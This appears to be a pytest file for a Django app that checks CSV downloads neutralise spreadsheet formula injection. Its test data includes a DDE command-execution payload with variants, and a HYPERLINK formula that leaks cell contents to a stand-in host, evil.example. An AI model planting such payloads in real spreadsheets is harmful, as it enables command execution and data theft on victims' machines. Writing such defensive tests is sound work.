"""CSV files people open: no cell may run as a spreadsheet formula (issue 12, item 13)."""

import csv
import io
from pathlib import Path

import pytest
from django.urls import reverse

from imports import services
from revops import csvsafe
from revops.models import JobRun
from tests.imports.test_import_views import mapping_post, upload


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = str(tmp_path / "media")
    return Path(settings.MEDIA_ROOT)


CALC = "=cmd|' /C calc'!A0"
LINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")'


@pytest.mark.parametrize(
    "value",
    [
        CALC,
        LINK,
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1",
    ],
)
def test_formula_cells_are_written_as_text(value):
    assert csvsafe.cell_safe(value) == "'" + value


@pytest.mark.parametrize("value", ["-5", "+3.5", "-1e3", "-.5", "Acme", "", "a=b", 42, -7, 1.5, None])
def test_plain_numbers_and_ordinary_text_stay_as_they_are(value):
    assert csvsafe.cell_safe(value) == value


def test_making_a_file_safe_twice_changes_nothing():
    once = io.StringIO()
    csvsafe.text_safe(f'a,b\n"{CALC}",-5\n', once)
    twice = io.StringIO()
    csvsafe.text_safe(once.getvalue(), twice)
    assert once.getvalue() == twice.getvalue()
    assert list(csv.reader(io.StringIO(once.getvalue())))[1] == ["'" + CALC, "-5"]


def _csv(rows) -> bytes:
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    return out.getvalue().encode()


ATTACK = _csv(
    [
        ["account", "website", "employees"],
        [CALC, "calc.example", "-4"],
        [LINK, "link.example", "-3"],
        ["Fine Ltd", "fine.example", "12"],
    ]
)


@pytest.mark.django_db
def test_the_rejected_rows_download_neutralises_formulas(client, member, django_capture_on_commit_callbacks):
    client.force_login(member)
    upload(client, ATTACK)
    job = JobRun.objects.get()
    url = reverse("imports:import_preview", kwargs={"pk": job.pk})
    with django_capture_on_commit_callbacks(execute=True):
        client.post(url, mapping_post(job, client.get(url), confirm="1"))
    response = client.get(reverse("imports:import_errors", kwargs={"pk": job.pk}))
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + CALC in cells and "'" + LINK in cells
    assert not any(cell.startswith(csvsafe.FORMULA_STARTS) and cell not in ("-4", "-3") for cell in cells)


@pytest.mark.django_db
def test_a_file_stored_before_the_fix_is_made_safe_when_downloaded(client, member, media):
    client.force_login(member)
    upload(client, ATTACK)
    job = JobRun.objects.get()
    name = f"imports/{job.pk}/errors.csv"
    (media / "imports" / str(job.pk)).mkdir(parents=True, exist_ok=True)
    (media / name).write_bytes(
        _csv([["row", "column", "value", "reason", "account"], ["2", "employees", "-4", "negative", CALC]])
    )
    job.params["errors_file"] = name
    job.save(update_fields=["params"])
    assert services.import_errors_path(job) is not None
    response = client.get(reverse("imports:import_errors", kwargs={"pk": job.pk}))
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[1] == ["2", "employees", "-4", "negative", "'" + CALC]
